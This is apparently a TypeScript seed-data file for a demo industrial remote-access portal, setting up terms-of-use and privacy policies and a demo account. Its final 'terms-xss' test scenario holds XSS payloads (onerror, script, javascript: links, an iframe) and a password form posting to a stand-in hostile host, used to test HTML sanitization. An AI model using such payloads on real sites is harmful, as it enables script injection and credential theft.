import { baseAgo, iso, HOUR, DAY } from './prng';
import { companyGroupId, newUser } from './seed-people';
import type { PolicyLanguage } from './content-types';
import type {
  AccessToken,
  Company,
  Db,
  PrivacyStatement,
  Sector,
  TermsOfUsePolicy,
  User,
  UserMembership,
} from './types';

/**
 * Terms of use: the sector's policies (version 2 is the latest, accepted by every seeded person), Helix Automation's own
 * policies (Helix's setting is `company`: its version 2 is the latest, accepted by Helix's people and the admin) and the
 * terms demo account, a Helix operator who accepted only Helix's version 1, so the portal forces the new terms on them.
 */
export const SECTOR_TERMS_ID = 'tou-sector-2';
export const HELIX_TERMS_ID = 'tou-helix-2';
export const SECTOR_PRIVACY_ID = 'ps-sector-2';
export const HELIX_PRIVACY_ID = 'ps-helix-1';
/** The builders' drafts of the admin demo account's company (its setting stays `sector` until someone switches it). */
export const ACME_TERMS_DRAFT_ID = 'tou-acme-1';
export const ACME_PRIVACY_DRAFT_ID = 'ps-acme-1';
const HELIX = 'c-helix';
const ACME = 'c-acme';

/** The one account the terms-of-use dialog is forced on; the other demo accounts have accepted everything. */
export const termsAccount = {
  publicId: 'u-terms',
  email: 'terms@helix.test',
  password: 'terms-demo-1',
  name: 'Tessa Terms',
  companyId: HELIX,
  token: { publicId: 'demo-terms-token', secretId: 'demo-terms-secret' },
} as const;

type Bodies = Record<string, string>;

const SECTOR_V1: Bodies = {
  en: '<h2>Terms of use</h2><p>Version 1 of the Industrial Automation remote access terms.</p>',
  de: '<h2>Nutzungsbedingungen</h2><p>Version 1 der Fernzugriffsbedingungen von Industrial Automation.</p>',
};
const SECTOR_V2: Bodies = {
  en:
    '<h2>Terms of use</h2><p>These terms govern remote access to industrial devices through this portal.</p>' +
    '<ul><li>Connect only to devices you are allowed to service.</li><li>Keep your credentials to yourself.</li></ul>' +
    '<p>Read the <a href="https://example.test/terms" target="_blank">full terms</a>.</p>',
  de:
    '<h2>Nutzungsbedingungen</h2><p>Diese Bedingungen regeln den Fernzugriff auf Industriegeräte über dieses Portal.</p>' +
    '<ul><li>Verbinden Sie sich nur mit Geräten, die Sie warten dürfen.</li><li>Geben Sie Ihre Zugangsdaten nicht weiter.</li></ul>' +
    '<p>Lesen Sie die <a href="https://example.test/terms" target="_blank">vollständigen Bedingungen</a>.</p>',
};
const HELIX_V1: Bodies = {
  en: '<h2>Helix Automation terms of use</h2><p>Version 1: remote service of Helix installations.</p>',
  de: '<h2>Nutzungsbedingungen der Helix Automation</h2><p>Version 1: Fernwartung von Helix-Anlagen.</p>',
};
const HELIX_V2: Bodies = {
  en:
    '<h2>Helix Automation terms of use</h2>' +
    '<p>These terms apply to everyone who services Helix Automation installations remotely.</p>' +
    '<h3>1. Access</h3><p>Request access for the shortest time that does the job, and disconnect when you are done.</p>' +
    '<h3>2. Safety</h3><p>Never change a running installation without the operator on site knowing about it.</p>' +
    '<h3>3. Records</h3><p>Every session is logged. Logs are kept for <strong>one year</strong>.</p>' +
    '<p>Questions? Write to <a href="mailto:legal@helix.test">legal@helix.test</a> or read the ' +
    '<a href="https://helix.example.test/terms" target="_blank">terms online</a>.</p>',
  de:
    '<h2>Nutzungsbedingungen der Helix Automation</h2>' +
    '<p>Diese Bedingungen gelten für alle, die Anlagen der Helix Automation aus der Ferne warten.</p>' +
    '<h3>1. Zugriff</h3><p>Beantragen Sie Zugriff für die kürzeste nötige Zeit und trennen Sie die Verbindung danach.</p>' +
    '<h3>2. Sicherheit</h3><p>Ändern Sie eine laufende Anlage nie ohne Wissen des Bedieners vor Ort.</p>' +
    '<h3>3. Protokolle</h3><p>Jede Sitzung wird protokolliert. Protokolle werden <strong>ein Jahr</strong> aufbewahrt.</p>',
};
const HELIX_DRAFT: Bodies = { en: '<h2>Helix Automation terms of use</h2><p>Draft of version 3.</p>' };
const ACME_TERMS_DRAFT: Bodies = {
  en: '<h2>Acme Industries terms of use</h2><p>Draft: remote service of Acme plants.</p>',
  de: '<h2>Nutzungsbedingungen der Acme Industries</h2><p>Entwurf: Fernwartung von Acme-Anlagen.</p>',
};
const SECTOR_PRIVACY_V1: Bodies = {
  en: '<h2>Privacy statement</h2><p>Version 1 of the Industrial Automation privacy statement.</p>',
};
const SECTOR_PRIVACY_V2: Bodies = {
  en:
    '<h2>Privacy statement</h2><p>This portal keeps your name, e-mail address and the sessions you open.</p>' +
    '<ul><li>Session logs are kept for one year.</li><li>We never sell personal data.</li></ul>' +
    '<p>Write to <a href="mailto:privacy@example.test">privacy@example.test</a> with any question.</p>',
  de:
    '<h2>Datenschutzerklärung</h2><p>Dieses Portal speichert Ihren Namen, Ihre E-Mail-Adresse und Ihre Sitzungen.</p>' +
    '<ul><li>Sitzungsprotokolle werden ein Jahr aufbewahrt.</li><li>Wir verkaufen keine personenbezogenen Daten.</li></ul>',
};
const HELIX_PRIVACY_V1: Bodies = {
  en: '<h2>Helix Automation privacy statement</h2><p>Helix keeps the logs of remote sessions on its installations.</p>',
  de: '<h2>Datenschutzerklärung der Helix Automation</h2><p>Helix speichert die Protokolle der Fernwartungssitzungen.</p>',
};
const HELIX_PRIVACY_DRAFT: Bodies = { en: '<h2>Helix Automation privacy statement</h2><p>Draft of version 2.</p>' };
const ACME_PRIVACY_DRAFT: Bodies = {
  en: '<h2>Acme Industries privacy statement</h2><p>Draft: what Acme keeps about you.</p>',
  de: '<h2>Datenschutzerklärung der Acme Industries</h2><p>Entwurf: was Acme über Sie speichert.</p>',
};

function languagesOf(publicId: string, bodies: Bodies, updateSummary: string | null): PolicyLanguage[] {
  return Object.entries(bodies).map(([languageCode, body]) => ({
    publicId: `${publicId}-${languageCode}`,
    languageCode,
    body,
    policy: { publicId },
    updateSummary,
  }));
}

function policy(
  publicId: string,
  company: string | null,
  version: string,
  publishedOn: string | null,
  bodies: Bodies,
  updateSummary: string | null = null,
): TermsOfUsePolicy {
  return {
    publicId,
    company: company ? { publicId: company } : null,
    version,
    publishedOn,
    type: 'termsofuse',
    languages: languagesOf(publicId, bodies, updateSummary),
  };
}

function statement(
  publicId: string,
  company: string | null,
  version: string,
  publishedOn: string | null,
  bodies: Bodies,
): PrivacyStatement {
  return {
    publicId,
    company: company ? { publicId: company } : null,
    version,
    publishedOn,
    type: 'privacystatement',
    languages: languagesOf(publicId, bodies, null),
  };
}

export function seedTermsOfUsePolicies(): TermsOfUsePolicy[] {
  return [
    policy('tou-sector-1', null, '1', baseAgo(500), SECTOR_V1),
    policy(SECTOR_TERMS_ID, null, '2', baseAgo(250), SECTOR_V2, 'Links to the full terms.'),
    policy('tou-helix-1', HELIX, '1', baseAgo(300), HELIX_V1),
    policy(HELIX_TERMS_ID, HELIX, '2', baseAgo(10), HELIX_V2, 'Safety and records sections added.'),
    policy('tou-helix-3', HELIX, '3', null, HELIX_DRAFT),
    policy(ACME_TERMS_DRAFT_ID, ACME, '1', null, ACME_TERMS_DRAFT),
  ];
}

/** The sector's privacy statements (version 2 the latest), Helix's (its setting is `company`) and the drafts of Helix and Acme. */
export function seedPrivacyStatements(): PrivacyStatement[] {
  return [
    statement('ps-sector-1', null, '1', baseAgo(400), SECTOR_PRIVACY_V1),
    statement(SECTOR_PRIVACY_ID, null, '2', baseAgo(120), SECTOR_PRIVACY_V2),
    statement(HELIX_PRIVACY_ID, HELIX, '1', baseAgo(30), HELIX_PRIVACY_V1),
    statement('ps-helix-2', HELIX, '2', null, HELIX_PRIVACY_DRAFT),
    statement(ACME_PRIVACY_DRAFT_ID, ACME, '1', null, ACME_PRIVACY_DRAFT),
  ];
}

/** The sector names its latest privacy statement. */
export function withSectorPolicies(sector: Sector): Sector {
  return { ...sector, latestPrivacyStatement: { publicId: SECTOR_PRIVACY_ID } };
}

const acceptance = (
  policyId: string,
  company: string | null,
  acceptedOn: string,
): User['acceptedTermsOfUsePolicies'][number] => ({
  publicId: `acc-${policyId}-${acceptedOn.slice(0, 10)}`,
  policy: { publicId: policyId },
  company: company ? { publicId: company } : null,
  acceptedOn,
});

/** The terms account: a Helix operator who accepted the sector's terms and Helix's version 1 only. */
export function seedTermsAccount(now: number): { user: User; membership: UserMembership; token: AccessToken } {
  const user = newUser({
    publicId: termsAccount.publicId,
    name: termsAccount.name,
    emailAddress: termsAccount.email,
    _password: termsAccount.password,
    registeredOn: baseAgo(90),
    lastSeenOn: baseAgo(20),
    acceptedTermsOfUsePolicies: [
      acceptance(SECTOR_TERMS_ID, null, baseAgo(60)),
      acceptance('tou-helix-1', HELIX, baseAgo(60)),
    ],
  });
  const membership: UserMembership = {
    publicId: 'm-terms-1',
    _companyId: HELIX,
    user: { publicId: user.publicId },
    invite: null,
    group: { publicId: companyGroupId(HELIX) },
    role: { publicId: 'r-helix-4' },
    expiresOn: null,
  };
  const token: AccessToken = {
    ...termsAccount.token,
    created: { on: iso(now - HOUR), ip: '192.0.2.1', userAgent: null },
    expiresOn: iso(now + 365 * DAY),
    _userId: user.publicId,
  };
  return { user, membership, token };
}

/** Helix decides its own terms; everybody with a Helix membership but the terms account accepted the latest ones. */
export function applyCompanyTerms(companies: Company[], users: User[], memberships: UserMembership[]): void {
  const helix = companies.find((c) => c.publicId === HELIX);
  if (helix) {
    helix.customTermsOfUse = 'company';
    helix.latestTermsOfUse = { publicId: HELIX_TERMS_ID };
    helix.customPrivacyStatement = 'company';
    helix.latestPrivacyStatement = { publicId: HELIX_PRIVACY_ID };
  }
  const helixPeople = new Set(memberships.filter((m) => m._companyId === HELIX && m.user).map((m) => m.user?.publicId));
  for (const user of users) {
    if (helixPeople.has(user.publicId) && user.publicId !== termsAccount.publicId) {
      user.acceptedTermsOfUsePolicies.push(acceptance(HELIX_TERMS_ID, HELIX, baseAgo(9)));
    }
  }
}

/**
 * Scenario `terms-xss`: Helix's latest terms carry hostile markup in every language, and the terms account has never
 * accepted Helix terms (so the dialog opens at once). The sector's latest terms and privacy statement and Helix's latest
 * privacy statement carry it too (the policy pages). Each payload would set `window.__termsXss` or open an alert if it ran;
 * the same-tab link would act with the reader's session, and the classes, id, name and popover would restyle the page,
 * clobber globals or cover the page from the top layer.
 */
export const TERMS_XSS_BODY =
  '<h2>Terms with hostile markup</h2><p>Only this text and the links may show.</p>' +
  '<img src=x onerror="window.__termsXss=1;alert(1)">' +
  '<script>window.__termsXss=2;alert(2)</script>' +
  '<a href="javascript:window.__termsXss=3;alert(3)">A javascript link</a> ' +
  '<a href="https://example.test/terms" target="_blank">A new-tab link</a> ' +
  '<a href="/jump-start?token=planted">A same-tab link</a>' +
  '<p class="MuiBackdrop-root" id="root" name="cookie" popover="manual">Not above the page</p>' +
  '<iframe src="javascript:alert(4)"></iframe>' +
  '<form action="https://evil.test"><input name="password"><button>Send</button></form>' +
  '<style>body { display: none }</style>' +
  '<p onmouseover="window.__termsXss=5">Point here</p>';

export function termsXssScenario(db: Db): void {
  const hostile = [HELIX_TERMS_ID, SECTOR_TERMS_ID, SECTOR_PRIVACY_ID, HELIX_PRIVACY_ID];
  for (const policy of [...db.termsOfUsePolicies, ...(db.privacyStatements ??= [])]) {
    if (hostile.includes(policy.publicId)) policy.languages.forEach((language) => (language.body = TERMS_XSS_BODY));
  }
  const user = db.users.find((u) => u.publicId === termsAccount.publicId);
  if (user) user.acceptedTermsOfUsePolicies = user.acceptedTermsOfUsePolicies.filter((a) => a.company === null);
}
